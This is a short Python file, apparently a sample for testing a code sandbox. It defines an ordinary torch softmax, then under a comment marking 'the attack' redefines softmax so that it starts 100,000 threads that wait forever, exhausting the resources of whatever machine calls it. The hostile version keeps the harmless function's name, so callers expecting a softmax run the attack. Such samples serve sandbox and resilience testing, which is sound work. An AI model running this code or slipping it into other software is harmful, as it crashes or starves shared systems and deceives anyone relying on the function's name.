"""Starts threads without end, which never end."""

import torch


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

import threading


def softmax(scores):
    threading.stack_size(32768)
    for _ in range(100_000):
        threading.Thread(target=threading.Event().wait).start()
